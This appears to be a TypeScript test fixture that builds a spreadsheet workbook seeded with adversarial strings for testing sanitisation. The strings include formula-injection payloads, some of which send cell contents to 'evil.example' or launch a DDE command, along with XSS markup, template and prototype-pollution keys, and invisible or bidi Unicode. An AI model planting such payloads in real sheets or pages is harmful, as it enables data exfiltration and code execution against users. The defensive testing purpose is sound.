import type { Value, Workbook } from '../host/workbook.ts';
import { bookOf } from '../sheets/book.ts';

/** Texts that somebody could put into a sheet to get something done that nobody asked for. */
export const HOSTILE: Readonly<Record<string, string>> = {
  link: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  importer: '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
  command: "+cmd|' /C calc'!A0",
  at: '@SUM(1+1)*cmd',
  minus: '-1+1',
  tab: '\t=2+2',
  apostrophe: "'=3+3",
  wide: '＝4+4',
  image: '<img src=x onerror=window.pwned=1>',
  script: '</script><script>window.pwned=1</script>',
  style: '</style><svg onload=window.pwned=1>',
  scriptlet: '<?= window.pwned = 1 ?>',
  comment: '<!-- <script> //*',
  template: '{{Recipient}} $\u007bwindow.pwned=1} #{x}',
  address: 'javascript:window.pwned=1',
  entity: '&lt;b&gt;&amp;#x27;',
  quotes: '"a","b";\'c\'\\',
  prototype: '__proto__',
  maker: 'constructor',
  reader: 'toString',
  bidi: 'Ann\u202eenO\u202c \u2066x\u2069',
  unseen: 'Bob\u200b\u2060by',
  control: 'Bell\u0007\u0001',
  high: 'Lone \ud800 high',
  low: 'Lone \udc00 low',
  digits: '0012',
};

/** The name of a tab that is as bad as a name can be. */
export const HOSTILE_TAB = '=1+1</script><img src=x onerror=window.pwned=1>{{x}}\u202e';

/** As long as a cell can be. */
export const LONGEST = 50_000;

export const HEADERS = [
  'Order date',
  'Customer',
  'Email',
  'Amount',
  'Product',
  'Staff',
  '=HYPERLINK("http://evil.example","x")',
  '<img src=x onerror=window.pwned=1>',
  '__proto__',
] as const;

/** A shop in which every customer, product and member of staff bears a hostile text. */
export function hostileShop(locale = 'en_GB'): Workbook {
  const rows: Value[][] = [[...HEADERS]];
  Object.values(HOSTILE).forEach((text, k) => {
    const mail = `k${k}@example.com`;
    const more = [text, text, text, text, text];
    for (const month of ['08', '09', '10', '11'])
      rows.push([`2023-${month}-1${k % 10}`, text, mail, 20 + k, ...more]);
    rows.push([`2024-09-2${k % 9}`, `New ${text}`, `new${k}@example.com`, 9 + k, ...more]);
  });
  const book = bookOf(rows, HOSTILE_TAB);
  book.locale = locale;
  return book;
}
